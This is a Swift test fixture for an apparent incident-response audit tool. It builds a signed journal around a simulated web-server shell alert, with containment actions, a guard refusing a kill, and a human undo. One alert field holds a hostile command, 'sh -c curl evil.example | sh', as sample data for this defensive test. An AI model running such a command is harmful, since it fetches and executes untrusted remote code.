import Foundation
@testable import RiposteAudit
import RiposteCore
import RiposteTestSupport
import Testing

/// An incident as a journal tells of it, between records that have nothing to do with it: an alert in a container, its process suspended and then
/// killed, an action that a guard refused, a person who took one thing back.
struct IncidentFixture {
    let journal: SignedJournal
    let incident = Identifier.new()
    let alert = Identifier.new()
    let run = Identifier.new()
    let suspend = Identifier.new()
    let isolate = Identifier.new()
    let refused = Identifier.new()
    let undo = Identifier.new()
    /// How many records belong to the incident.
    let count = 10

    static let start = Timestamp(nanoseconds: 1_780_000_000_000_000_000)

    /// `values` are put in place of the fixture's own fields of the alert; with `raw`, one text in it then becomes bytes that are no UTF-8, which a
    /// journal keeps in base 64.
    init(signed: Bool = true, with values: [ByteText: JSON] = [:], raw: (text: [UInt8], bytes: [UInt8])? = nil, playbook: String = "contain") throws {
        journal = try SignedJournal()
        let open = try journal.open(signed: signed)
        var fields: JSONObject = [
            "proc.pid": 4711, "proc.name": "sh", "proc.cmdline": "sh -c curl evil.example | sh", "proc.ppid": 4700, "proc.pname": "nginx", "proc.pcmdline": "nginx: worker",
            "proc.aname[2]": "nginx", "proc.apid[2]": 4690, "proc.aname[3]": "containerd-shim", "user.name": "www-data", "container.id": "abc123", "container.name": "web",
        ]
        for (key, value) in values { fields[key] = value }
        func noise() throws { for _ in 0..<7 { try open.append(SignedJournal.record("noise")) } }
        func append(_ kind: AuditRecord.Kind, _ id: Identifier, after milliseconds: Int, _ change: (inout AuditRecord) -> Void) throws {
            var record = AuditRecord(kind, at: Self.start + .milliseconds(milliseconds), id: id)
            record.alert = kind == .alert ? nil : alert
            record.playbook = kind == .alert ? nil : playbook
            record.actor = kind == .alert ? nil : AuditRecord.Actor(.playbook, name: playbook)
            change(&record)
            try open.append(record)
        }
        let process = Target.process(ProcessIdentity(pid: 4711, startTicks: 99, bootID: "b", startedAt: Self.start, name: "sh"))
        let container = Target.container(ContainerIdentity(id: String(repeating: "ab", count: 32), name: "web", image: "nginx:1"))

        try noise()
        try append(.alert, alert, after: 0) {
            $0.incident = incident
            let document: JSON = [
                "time": .text("\(Self.start)"), "rule": values["rule"] ?? "Run shell in web server", "priority": "Critical", "source": "syscall",
                "output": values["output"] ?? "A shell was started by nginx", "hostname": "web-7", "tags": ["shell"], "output_fields": .object(fields),
            ]
            $0.detail = [
                raw == nil ? "alert" : "alert_base64": raw.map { .text(document.bytes.replacing($0.text, with: $0.bytes).base64) } ?? document,
                "arrival": Alert.Arrival(intake: "http", time: Self.start).json, "runs": [["run": .text("\(run)"), "playbook": .text(playbook)]],
            ]
        }
        for (id, action, target, delay) in [(suspend, "process.suspend", process, 1), (isolate, "container.isolate", container, 9)] {
            try noise()
            try append(.intent, id, after: delay) {
                ($0.run, $0.step, $0.action, $0.target, $0.mode, $0.incident) = (run, action, action, target, .enforce, incident)
                $0.detail = ["guards": ["asked": 14, "verdict": "allow"], "budget": ["name": "agent", "used": 3, "limit": 100]]
            }
            try append(.outcome, id, after: delay + 2) {
                ($0.run, $0.step, $0.action, $0.target, $0.mode, $0.outcome) = (run, action, action, target, .enforce, .done)
                $0.detail = [
                    "evidence": ["was": "running", "sha256": .text(String(repeating: "5a", count: 32))],
                    "undo": ["inverse": "process.resume", "due": .text("\(Self.start + .seconds(1800))")],
                ]
            }
        }
        _ = try open.writeCheckpoint()
        try append(.outcome, refused, after: 14) {
            ($0.run, $0.action, $0.target, $0.outcome, $0.failure, $0.message) = (
                run, "process.kill", process, .refused, .guarded, values["message"]?.string?.repaired ?? "sshd is protected (guards.processes)"
            )
        }
        try append(.run, run, after: 15) { $0.outcome = nil }
        try noise()
        for kind in [AuditRecord.Kind.intent, .outcome] {
            // Without the alert's id: an undo is tied to what it undoes.
            var record = AuditRecord(kind, at: Self.start + .seconds(754), id: undo)
            record.undoes = suspend
            record.actor = AuditRecord.Actor(.person, name: "mia", uid: 1001, pid: 77)
            (record.action, record.target, record.reason) = ("process.resume", process, "known job of the web team")
            record.outcome = kind == .outcome ? .undone : nil
            try open.append(record)
        }
        var other = AuditRecord(.outcome, at: Self.start + .seconds(800), id: .new())
        other.incident = .new()
        try open.append(other)
        var reviewed = AuditRecord(.config, at: Self.start + .seconds(900))
        (reviewed.incident, reviewed.reason) = (incident, "closed after review")
        try open.append(reviewed)
        try noise()
        _ = try open.writeCheckpoint()
        open.close()
    }

    func bundle(_ seed: BundleSelection.Seed? = nil) throws -> AuditBundle {
        try BundleExport(stateDirectory: journal.folder.path, version: "1.2.3").bundle(seed ?? .incident(incident), at: Self.start + .seconds(1000))
    }

    func verify(_ path: String, keys: [VerifyingKey]? = nil, version: String = "1.2.3") throws -> BundleVerifier.Report {
        try BundleVerifier(path: path, version: version).verify(keys ?? [journal.key.verifyingKey])
    }
}
